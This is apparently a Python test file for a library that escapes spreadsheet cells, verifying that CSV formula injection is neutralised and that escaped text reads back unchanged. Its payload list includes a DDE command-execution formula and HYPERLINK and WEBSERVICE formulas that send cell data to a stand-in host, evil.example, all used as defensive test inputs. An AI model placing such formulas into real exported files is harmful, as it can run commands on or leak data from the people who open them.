"""What a spreadsheet would compute is text when it comes from us, and the same text when it comes back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from answerable.text.cells import bare, cell

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1',
    '=HYPERLINK("http://evil.example/?q="&A1)', "＝1+1", "＋A1", "＠SUM(1)", "−A1", ";=1+1", "|=1+1", "a;=1+1",
    "a\n=1+1", "a;\t @SUM(1)", '=WEBSERVICE("http://evil.example")', "\ufeff=1+1", "\x00=1+1", "'=1+1;=2",
    "-2;+A1", "-2 + A1",
)  # fmt: skip
PLAIN = ("-5", "+3.14", "-1e5", "a=b", "plain", "2024-01-01", "+49 30 123456", "- 5 %", "1;2", "a - b", "")


def live(text: str, separator: str) -> list[str]:
    """Cells of a table that a spreadsheet would compute: a formula's sign first."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    cells = (one.lstrip(' \t\r\n"\ufeff\x00') for row in rows for one in row)
    signs = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−")
    return [
        one for one in cells if one.startswith(signs) and not one.lstrip("+-−").strip().replace(" ", "").isdigit()
    ]


def table(text: str) -> str:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(["first", text, "last"])
    return out.getvalue()


@pytest.mark.parametrize("text", FORMULAS)
def test_no_spreadsheet_of_any_separator_computes_a_cell(text: str) -> None:
    assert live(table(text), ",") or live(table(text), ";") or live(table(text), "|")
    for separator in ",;|\t":
        assert live(table(cell(text)), separator) == []


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


@settings(max_examples=60)
@given(st.text(alphabet="'=+-@;|\t\n\r \"a1.,＝−") | st.text())
def test_what_is_read_back_is_what_was_written(text: str) -> None:
    assert bare(cell(text)) == text
